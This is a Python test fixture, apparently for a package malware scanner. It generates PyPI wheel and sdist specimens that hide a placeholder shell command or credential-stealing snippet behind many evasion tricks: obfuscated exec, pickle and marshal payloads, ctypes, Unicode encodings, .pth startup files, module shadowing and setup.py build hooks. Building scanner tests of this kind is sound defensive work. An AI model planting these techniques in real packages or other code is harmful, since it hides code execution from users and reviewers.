"""Ways to hide what Python does: each runs the same dull payload when the package is imported or built."""

import base64
import marshal
import pickle
import zlib

from tests.evasion.specimen import COMMAND, PY_STEAL, Files, Specimen, pypi

_SYSTEM = f"system('{COMMAND}')\n"
_SOURCE = f"import os; os.system('{COMMAND}')"
_B64 = base64.b64encode(_SOURCE.encode()).decode()
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200)
_CIPHER = base64.b64encode(bytes((n * 73 + 41) % 256 for n in range(600))).decode()


class _Runs:
    """Pickles as a call of ``os.system``; never unpickled here."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (COMMAND,)


_PICKLE = pickle.dumps(_Runs(), 2)
_MARSHAL = marshal.dumps(compile(_SOURCE, "pad", "exec"))


def _wheel(row: str, title: str, files: Files) -> Specimen:
    """Return a wheel that gains files."""
    before = {"pad/__init__.py": "WIDTH = 2\n"}
    return Specimen(row=row, title=title, before=before, after={**before, **files}, ecosystem="pypi")


def _sdist(row: str, title: str, files: Files) -> Specimen:
    """Return a source distribution that gains files or changes them."""
    before = {
        "pad/__init__.py": "WIDTH = 2\n",
        "setup.py": "from setuptools import setup\nsetup(name='example-package', version='1.0.0')\n",
    }
    after = {**before, **files}
    return Specimen(row=row, title=title, before=before, after=after, ecosystem="pypi", sdist=True)


SPECIMENS: tuple[Specimen, ...] = (
    # Decoys
    pypi("comment decoy", "an odd number of triple quotes", f'# """ opens nothing\nimport os\nos.{_SYSTEM}'),
    pypi("comment decoy", "a glob in a text", f"FILES = 'src/**/*.py'\nimport os\nos.{_SYSTEM}"),
    pypi("comment decoy", "a doc text that ends early", f"'''Pads. ''' ; import os ; os.{_SYSTEM}"),
    pypi("comment decoy", "a carriage return ends the comment", f"# nothing\rimport os; os.{_SYSTEM}"),
    pypi("comment decoy", "a form feed in front", f"\x0cimport os\n\x0cos.{_SYSTEM}"),
    pypi("comment decoy", "a backslash goes on", f"import \\\n os\nos\\\n.{_SYSTEM}"),
    pypi("rule-exhausting decoys", "two thousand harmless requests first", "import urllib.request\n" + "".join(f"def f{n}():\n    return urllib.request.urlopen('https://api.invalid/{n}')\n" for n in range(2000)) + PY_STEAL),
    # Names
    pypi("computed names", "getattr with a text in parts", f"import os\ngetattr(os, 'sys' + 'tem')('{COMMAND}')\n"),
    pypi("computed names", "importlib", f"import importlib\nimportlib.import_module('o' + 's').{_SYSTEM}"),
    pypi("computed names", "__import__", f"__import__('o' 's').{_SYSTEM}"),
    pypi("computed names", "__builtins__", f"__builtins__['__import__']('os').{_SYSTEM}"),
    pypi("computed names", "__builtins__ as a module", f"getattr(__builtins__, '__imp' + 'ort__')('os').{_SYSTEM}"),
    pypi("computed names", "builtins.__dict__", f"import builtins\nbuiltins.__dict__['exec'](\"{_SOURCE}\")\n"),
    pypi("computed names", "globals()", f"import os\nglobals()['o' + 's'].{_SYSTEM}"),
    pypi("computed names", "vars()", f"import os\nvars(os)['system']('{COMMAND}')\n"),
    pypi("computed names", "sys.modules", f"import sys\nsys.modules['os'].{_SYSTEM}"),
    pypi("computed names", "subclasses of object", f"[c for c in object.__subclasses__() if c.__name__ == 'Popen'][0]('{COMMAND}', shell=True)\n"),
    pypi("computed names", "through a function's globals", f"import random\nrandom._os.{_SYSTEM}"),
    pypi("computed names", "__loader__", f"__loader__.load_module('os').{_SYSTEM}"),
    pypi("computed names", "an alias", f"from os import system as pad\npad('{COMMAND}')\n"),
    pypi("computed names", "operator.attrgetter", f"import os, operator\noperator.attrgetter('system')(os)('{COMMAND}')\n"),
    pypi("computed names", "operator.methodcaller", f"import os, operator\noperator.methodcaller('system', '{COMMAND}')(os)\n"),
    pypi("computed names", "functools.partial", f"import os, functools\nfunctools.partial(os.system, '{COMMAND}')()\n"),
    pypi("computed names", "map", f"import os\nlist(map(os.system, ['{COMMAND}']))\n"),
    pypi("computed names", "pkgutil.resolve_name", f"import pkgutil\npkgutil.resolve_name('os:system')('{COMMAND}')\n"),
    pypi("computed names", "pydoc.locate", f"import pydoc\npydoc.locate('os.system')('{COMMAND}')\n"),
    pypi("computed names", "the methods of an open file", f"import base64, subprocess, sys, tempfile\nf = getattr(tempfile, 'Named' + 'TemporaryFile')(delete=False)\ngetattr(f, 'wr' + 'ite')(base64.b64decode('{_B64}'))\nsubprocess.Popen([sys.executable, getattr(f, 'na' + 'me')])\n"),
    pypi("computed names", "importlib.util", f"import importlib.util as u\ns = u.find_spec('os')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\nm.{_SYSTEM}"),
    pypi("computed names", "runpy of a file of its own", "import runpy\nrunpy.run_path('pad/data.txt')\n", {"pad/data.txt": _SOURCE + "\n"}),
    # When it runs
    pypi("decorators and metaclasses", "a decorator runs it", f"import os\n@os.system\ndef pad(): ...\n@(lambda f: os.system('{COMMAND}'))\ndef run(): ...\n"),
    pypi("decorators and metaclasses", "a metaclass runs it", f"import os\nclass M(type):\n    def __new__(m, *a):\n        os.{_SYSTEM}        return type.__new__(m, *a)\nclass A(metaclass=M): ...\n"),
    pypi("decorators and metaclasses", "__init_subclass__ runs it", f"import os\nclass B:\n    def __init_subclass__(c):\n        os.{_SYSTEM}class A(B): ...\n"),
    pypi("decorators and metaclasses", "__set_name__ runs it", f"import os\nclass D:\n    def __set_name__(s, o, n):\n        os.{_SYSTEM}class A:\n    x = D()\n"),
    pypi("decorators and metaclasses", "__class_getitem__ runs it", f"import os\nclass A:\n    def __class_getitem__(c, k):\n        os.{_SYSTEM}A[1]\n"),
    pypi("decorators and metaclasses", "a property runs it", f"import os\nclass A:\n    @property\n    def x(self):\n        os.{_SYSTEM}A().x\n"),
    pypi("decorators and metaclasses", "an operator runs it", f"import os\nclass A:\n    def __add__(self, o):\n        os.{_SYSTEM}A() + 1\n"),
    pypi("decorators and metaclasses", "a context runs it", f"import os\nclass A:\n    def __enter__(self):\n        os.{_SYSTEM}    def __exit__(self, *a): ...\nwith A(): ...\n"),
    pypi("decorators and metaclasses", "__del__ runs it", f"import os\nclass A:\n    def __del__(self):\n        os.{_SYSTEM}A()\n"),
    pypi("decorators and metaclasses", "a module's __getattr__", f"import os\ndef __getattr__(name):\n    os.{_SYSTEM}"),
    pypi("decorators and metaclasses", "a default argument", f"import os\ndef pad(a=os.system('{COMMAND}')): ...\n"),
    pypi("decorators and metaclasses", "an annotation", f"import os\nx: os.system('{COMMAND}') = 1\n"),
    pypi("decorators and metaclasses", "atexit", f"import atexit, os\natexit.register(os.system, '{COMMAND}')\n"),
    pypi("decorators and metaclasses", "a thread", f"import threading, os\nthreading.Thread(target=os.system, args=('{COMMAND}',)).start()\n"),
    pypi("decorators and metaclasses", "a timer", f"import threading, os\nthreading.Timer(60, lambda: os.system('{COMMAND}')).start()\n"),
    pypi("decorators and metaclasses", "sys.settrace", f"import sys, os\nsys.settrace(lambda *a: os.system('{COMMAND}'))\n"),
    pypi("decorators and metaclasses", "asyncio", f"import asyncio, os\nasync def f():\n    os.{_SYSTEM}asyncio.run(f())\n"),
    pypi("decorators and metaclasses", "a lambda in a lambda", f"import os\n(lambda f: f('{COMMAND}'))(lambda c: os.system(c))\n"),
    pypi("decorators and metaclasses", "a generator", f"import os\nlist(os.system(c) for c in ['{COMMAND}'])\n"),
    pypi("decorators and metaclasses", "a walrus in an assertion", f"assert (o := __import__('os')) and not o.{_SYSTEM}"),
    # Evaluation
    pypi("evaluation", "exec of base64", f"import base64\nexec(base64.b64decode('{_B64}'))\n"),
    pypi("evaluation", "compile and exec", f"exec(compile(__import__('base64').b64decode('{_B64}'), 'pad', 'exec'))\n"),
    pypi("evaluation", "zlib and a reversal", f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(_SOURCE.encode())).decode()[::-1]}'[::-1])))\n"),
    pypi("evaluation", "eval of bytes in a list", f"exec(bytes([{','.join(str(b) for b in _SOURCE.encode())}]))\n"),
    pypi("evaluation", "fifty layers of exec", "".join(["_ = '"] + ["pass;"] * 50 + [f"'\nexec(bytes.fromhex('{_SOURCE.encode().hex()}').decode())\n"])),
    pypi("evaluation", "a chain of chr", "exec(" + "+".join(f"chr({ord(c)})" for c in _SOURCE) + ")\n"),
    pypi("evaluation", "lambda with a hidden call", f"(lambda __: __('exec')(__import__('codecs').decode('{_SOURCE.encode().hex()}', 'hex')))(lambda n: __builtins__.__dict__[n])\n"),
    pypi("evaluation", "code.InteractiveInterpreter", f'import code\ncode.InteractiveInterpreter().runsource("{_SOURCE}")\n'),
    pypi("evaluation", "timeit", f'import timeit\ntimeit.timeit("{_SOURCE}", number=1)\n'),
    pypi("evaluation", "types.FunctionType of marshalled code", f"import marshal, types, base64\ntypes.FunctionType(marshal.loads(base64.b64decode('{base64.b64encode(_MARSHAL).decode()}')), globals())()\n"),
    pypi("evaluation", "python -c", f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"{_SOURCE}\"])\n"),
    pypi("evaluation", "exec under another name", f'run = exec\nrun("{_SOURCE}")\n'),
    pypi("evaluation", "a cipher keyed by the host's name", f"import base64, hashlib, socket\nk = hashlib.sha256(socket.gethostname().encode()).digest()\nexec(bytes(b ^ k[i % 32] for i, b in enumerate(base64.b64decode('{_CIPHER}'))))\n"),
    pypi("evaluation", "Fernet with a key of the environment", f"import os\nfrom cryptography.fernet import Fernet\nexec(Fernet(os.environ['PAD_KEY']).decrypt(b'{_CIPHER}'))\n"),
    # Data that runs
    pypi("pickles and marshal", "a pickle in the text", f"import pickle\npickle.loads({_PICKLE!r})\n"),
    pypi("pickles and marshal", "a pickle in base64", f"import pickle, base64\npickle.loads(base64.b64decode('{base64.b64encode(_PICKLE).decode()}'))\n"),
    pypi("pickles and marshal", "a pickle in a file", "import pickle\nMODEL = pickle.load(open('pad/model.pkl', 'rb'))\n", {"pad/model.pkl": _PICKLE}),
    pypi("pickles and marshal", "marshalled code in the text", f"import marshal\nexec(marshal.loads({_MARSHAL!r}))\n"),
    pypi("pickles and marshal", "code that is read from a file beside it", "import pathlib\nexec(pathlib.Path(__file__).with_name('table.dat').read_text())\n", {"pad/table.dat": _SOURCE + "\n"}),
    pypi("pickles and marshal", "code that is read from a file", "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'table.txt')).read())\n", {"pad/table.txt": _SOURCE + "\n"}),
    pypi("pickles and marshal", "the package's data", "import pkgutil\nexec(pkgutil.get_data('pad', 'table.txt'))\n", {"pad/table.txt": _SOURCE + "\n"}),
    # Native code
    pypi("ctypes", "libc's system", f"import ctypes\nctypes.CDLL(None).system(b'{COMMAND}')\n"),
    pypi("ctypes", "libc found by name", f"import ctypes, ctypes.util\nctypes.cdll.LoadLibrary(ctypes.util.find_library('c')).system(b'{COMMAND}')\n"),
    pypi("ctypes", "memory that is made executable", f"import ctypes, mmap, base64\nb = base64.b64decode('{_CIPHER}')\nm = mmap.mmap(-1, len(b), prot=7)\nm.write(b)\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n"),
    pypi("ctypes", "a library that is added", "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'pad.so'))\n", {"pad/pad.so": _ELF}),
    pypi("ctypes", "an extension module", "from pad import _speed\n", {"pad/_speed.so": _ELF}),
    # Hostile text
    pypi("hostile Unicode", "letters that Python takes for others", f"import os\nos.𝘴𝘺𝘴𝘵𝘦𝘮('{COMMAND}')\n"),
    pypi("hostile Unicode", "an encoding that is declared", "from pad import x\n", {"pad/x.py": b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\nos.system('" + COMMAND.encode() + b"')\n"}),
    pypi("hostile Unicode", "unicode_escape as the encoding", "from pad import x\n", {"pad/x.py": f"# -*- coding: unicode_escape -*-\n# \\nimport os; os.system('{COMMAND}')\n".encode()}),
    pypi("hostile Unicode", "a program in EBCDIC", f"exec({_SOURCE.encode('cp500')!r}.decode('cp500'))\n"),
    pypi("hostile Unicode", "a program whose bytes are those of other letters", f"exec({_SOURCE.ljust(len(_SOURCE) + len(_SOURCE) % 2).encode().decode('utf-16-le', 'surrogatepass')!r}.encode('utf-16-le').decode())\n"),
    pypi("hostile Unicode", "a mark of the byte order", "from pad import x\n", {"pad/x.py": b"\xef\xbb\xbf" + _SOURCE.encode()}),
    pypi("hostile Unicode", "a zero byte", "from pad import x\n", {"pad/x.py": b"import os\x00\n" + _SOURCE.encode()}),
    pypi("parser differentials", "tabs that are eight wide", f"import os\nif 1:\n        pass\n\tos.{_SYSTEM}"),
    pypi("parser differentials", "a match statement", f"import os\nmatch '{COMMAND}':\n    case str(c):\n        os.system(c)\n"),
    pypi("parser differentials", "print of old", f'print "pad"\nimport os\nos.{_SYSTEM}'),
    pypi("parser differentials", "nested f-strings", f"import os\nf\"{{os.system(f'{COMMAND[:10]}{{\"\"}}{COMMAND[10:]}')}}\"\n"),
    pypi("parser differentials", "a type parameter", f"import os\ntype X[T: (os.system('{COMMAND}'),)] = T\nX.__type_params__[0].__constraints__\n"),
    pypi("far right", "behind a thousand blanks", f"WIDE = 1;{' ' * 1000}import os; os.{_SYSTEM}"),
    pypi("odd places", "tests", "from pad.tests import setup\n", {"pad/tests/setup.py": _SOURCE + "\n"}),
    # What runs by itself
    _wheel("startup files", "a .pth file", {"example.pth": f"import os; os.system('{COMMAND}')\n"}),
    _wheel("startup files", "a .pth file whose line is far away", {"example.pth": f"pad\nimport os;{' ' * 400}os.system('{COMMAND}')\n"}),
    _wheel("startup files", "sitecustomize", {"sitecustomize.py": _SOURCE + "\n"}),
    _wheel("startup files", "usercustomize", {"usercustomize.py": _SOURCE + "\n"}),
    _wheel("startup files", "a .pth in the data of a wheel", {"example_package-1.0.1.data/purelib/zz.pth": f"import os; os.system('{COMMAND}')\n"}),
    _wheel("startup files", "a plug-in of pytest", {"example_package-1.0.1.dist-info/entry_points.txt": "[pytest11]\npad = pad.hook\n", "pad/hook.py": _SOURCE + "\n"}),
    _wheel("startup files", "conftest", {"conftest.py": _SOURCE + "\n"}),
    _wheel("shadowing", "a module of the standard library's name", {"random.py": _SOURCE + "\n"}),
    _wheel("shadowing", "another package's module", {"requests/hooks.py": PY_STEAL}),
    _wheel("shadowing", "a command of a system's name", {"example_package-1.0.1.dist-info/entry_points.txt": "[console_scripts]\npip = pad.cli:main\n", "pad/cli.py": f"import os\ndef main():\n    os.{_SYSTEM}"}),
    _wheel("shadowing", "a script in the data of a wheel", {"example_package-1.0.1.data/scripts/python": f"#!python\nimport os\nos.{_SYSTEM}"}),
    _wheel("bytecode", "a .pyc without a source", {"pad/__init__.py": "WIDTH = 2\nfrom pad import extra\n", "pad/extra.pyc": b"\xa7\r\r\n" + bytes(12) + _MARSHAL}),
    _sdist("build hooks", "setup.py", {"setup.py": f"from setuptools import setup\nimport os\nos.{_SYSTEM}setup(name='example-package', version='1.0.1')\n"}),
    _sdist("build hooks", "a command class", {"setup.py": f"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass Run(install):\n    def run(self):\n        os.{_SYSTEM}setup(name='example-package', version='1.0.1', cmdclass={{'install': Run}})\n"}),
    _sdist("build hooks", "an attribute in setup.cfg", {"setup.cfg": "[metadata]\nversion = attr: pad.hook.VERSION\n", "pad/hook.py": _SOURCE + "\nVERSION = str('1.0.1')\n"}),
    _sdist("build hooks", "a build backend inside", {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "build_pad"\nbackend-path = ["tools"]\n', "tools/build_pad.py": _SOURCE + "\n"}),
    _sdist("build hooks", "a command class in setup.cfg", {"setup.cfg": "[options]\ncmdclass =\n    install = pad.hook.Install\n", "pad/hook.py": _SOURCE + "\nclass Install: ...\n"}),
    Specimen(
        row="floods", title="a thousand dull modules and one that is not", ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "WIDTH = 2\nfrom pad import " + ", ".join(f"part{n}" for n in range(1000)) + "\n",
            **{f"pad/part{n}.py": f"WIDTH = {n}\n" for n in range(1000)}, "pad/part500.py": PY_STEAL,
        },
    ),
)  # fmt: skip
